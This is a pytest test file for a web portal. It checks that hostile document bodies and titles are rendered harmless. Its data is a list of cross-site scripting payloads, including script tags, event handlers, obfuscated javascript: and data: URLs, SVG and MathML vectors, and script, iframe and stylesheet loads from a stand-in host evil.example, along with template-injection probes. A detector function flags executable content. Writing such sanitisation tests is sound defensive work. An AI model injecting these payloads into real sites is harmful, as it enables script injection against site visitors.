"""Whatever is pasted into a document, its page is shown and nothing in it runs."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from portal.content.document.operations import publish_document
from portal.testing import World

SECTION = "/sites/fgw/zwgk/tzgg"
BODIES = [
    "<script>alert(1)</script><p>文</p>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)" alt="x">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x" onclick=alert(1)>x</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<iframe src=//evil.example></iframe><object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=a><button formaction=javascript:x>x</button></form>",
    "<style>@import '//evil.example'</style><link rel=stylesheet href=//evil.example>",
    '<p style="background:url(javascript:alert(1))" onmouseover=alert(1)>x</p>',
    "<base href=//evil.example><meta http-equiv=refresh content=0>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<p>offen <b>ohne <i>Ende",
    "</div></article></main></body></html><p>danach</p>",
    "<" * 3_000,
    "<div>" * 10_000 + "tief",
    "<b><i>" * 10_000,
    "<table><tr><td>" * 3_000,
    "&" * 5_000 + "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- <script>alert(1)</script> --><![CDATA[<script>]]><?php x ?>",
    "😀👨‍👩‍👧‍👦🇨🇳𠮷𪚥",
    "\0\x01\x1f\x7f\ufeff\u202e\ufffe",
    "<p>\0<scr\0ipt>alert(1)</script></p>",
    "${structure: python:1} <tal:block replace='x'/> {{7*7}} <%= 1 %>",
    "",
]


@pytest.fixture(scope="module")
def city(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    world = World.make(tmp_path_factory.mktemp("hostile"))
    world.site("fgw")
    yield world
    world.close()


def dangers(page: Any) -> list[str]:
    """Return what of `page` could run: elements, handlers, addresses of scripts.

    Our own script files and the code of the address are taken out first.
    """
    for own in page.html.select("script[src^='/static/'], .code svg, svg.code, svg.emblem"):
        own.extract()
    found = [
        each.name
        for each in page.html.find_all(
            ["script", "iframe", "object", "embed", "svg", "math", "base", "style"]
        )
    ]
    for each in page.html.find_all(name=bool):
        for name, value in each.attrs.items():
            address = (
                "".join(str(value).split()).lower() if name in {"href", "src", "action"} else ""
            )
            runs = address.startswith(("javascript:", "data:", "vbscript:"))
            if runs or name.startswith("on") or name in {"style", "formaction", "srcdoc"}:
                found.append(f"{each.name}[{name}]")
    return found


@pytest.mark.parametrize(
    "body", BODIES, ids=[f"{n}-{body[:20]!a}" for n, body in enumerate(BODIES)]
)
def test_a_hostile_body_is_shown_and_does_nothing(city: World, body: str) -> None:
    page = city.browser().get(city.publish(SECTION, title="正文", body=body))
    assert dangers(page) == []
    assert page.html.select_one("main article.document")
    assert page.html.select_one("footer.foot")


def test_a_hostile_title_is_text_wherever_it_is_shown(city: World) -> None:
    title = '"><script>alert(1)</script><img src=x onerror=alert(1)>${x}&amp;'
    address = city.publish(
        "/sites/fgw/zwgk/ghjh", title=title, summary=title, source=title, keywords=(title,)
    )
    city.feed()
    browser = city.browser()
    for page in (
        browser.get(address),
        browser.get("/sites/fgw/zwgk/ghjh/"),
        browser.get("/sites/fgw/"),
        browser.get("/search", {"q": "alert onerror"}),
    ):
        assert dangers(page) == []
        assert "alert(1)" in page.html.text
    assert browser.get(address).html.h1.text == title


def test_every_naughty_string_is_a_title_and_a_body_like_any_other(
    city: World, shared_data: Path
) -> None:
    strings = [
        text
        for text in json.loads((shared_data / "naughty_strings.json").read_text("utf-8"))
        if text.strip()
    ]
    section = "/sites/fgw/zwgk/gzdt"
    with city.office.transaction() as (cluster, act):
        place = city.place(cluster, section)
        for text in strings:
            publish_document(place, {"title": text, "body": text, "summary": text}, act)
        names = [row.name for row in place.listing]
    city.feed()
    browser = city.browser()
    for name in names:
        assert dangers(browser.get(f"{section}/{name}")) == [], name
    for number in range(1, len(names) // 20 + 2):
        assert dangers(browser.get(f"{section}/", {"page": str(number)})) == []
    assert dangers(browser.get("/sites/fgw/")) == []
